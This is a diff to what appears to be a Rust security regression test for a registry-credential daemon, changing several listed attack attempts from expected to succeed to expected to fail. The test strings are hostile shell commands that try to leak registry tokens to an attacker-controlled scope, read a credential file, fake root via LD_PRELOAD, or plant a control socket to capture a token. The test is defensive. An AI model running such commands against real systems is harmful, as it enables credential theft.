@@ -83,16 +83,16 @@ const WAYS: &[Way] = &[
         "unshare --user --map-root-user cat $STATE/../credentials/vault-identity",
     ),
     // The control socket.
-    succeeds("add a scope", "ctl add-scope corp $EVIL && get $EVIL"),
-    succeeds(
+    fails("add a scope", "ctl add-scope corp $EVIL && get $EVIL"),
+    fails(
         "share the token with another registry",
         "ctl add-registry thief --credential-of corp --scope $EVIL --no-verify --ca-file $EVIL_CA && get $EVIL; ctl remove-registry thief",
     ),
-    succeeds(
+    fails(
         "add a scope without regauthctl",
         "ask '{\"v\":1,\"method\":\"add-scope\",\"name\":\"corp\",\"scopes\":[\"'$EVIL'\"]}' && get $EVIL",
     ),
-    succeeds(
+    fails(
         "add a scope as root of a user namespace",
         "unshare --user --map-root-user $CTL add-scope corp $EVIL || ctl add-scope corp $EVIL; get $EVIL",
     ),
@@ -100,13 +100,9 @@ const WAYS: &[Way] = &[
         "add a scope with a regauthctl that believes to be root",
         "printf 'int geteuid(void) { return 0; } int getuid(void) { return 0; }' | cc -shared -xc -o $LOOT/root.so - && LD_PRELOAD=$LOOT/root.so $CTL add-scope corp $EVIL && get $EVIL",
     ),
-    succeeds(
+    fails(
         "edit the configuration and reload",
         "sed -i '/^\\[registries.corp\\]/,/^scopes/s#^scopes = \\[#&\"'$EVIL'\", #' $CONFIG && ctl reload && get $EVIL",
-    ),
-    fails(
-        "set other scopes",
-        "ctl set corp scopes ${CORP%/corp/*}/corp/ $EVIL --no-verify --yes && get $EVIL",
     ),
     succeeds("open writes", "ctl allow corp --for 1m && write; ctl deny corp"),
     succeeds(
@@ -208,7 +204,7 @@ const WAYS: &[Way] = &[
         "plant a control socket and wait for a token",
         "plant & sleep 0.5; typed_token | ctl rotate corp --token-stdin --no-verify; wait; unplant",
     ),
-    succeeds(
+    fails(
         "start another daemon on a copy of the files",
         "cp -r $STATE $LOOT/state && sed '/^\\[registries.corp\\]/,/^scopes/s#^scopes = \\[#&\"'$EVIL'\", #' $CONFIG >$LOOT/config.toml && chmod -R go= $LOOT && other_daemon && get $EVIL --proxy $(other_ctl status --json | grep -o 'http://127[^\"]*'); other_ctl stop",
     ),
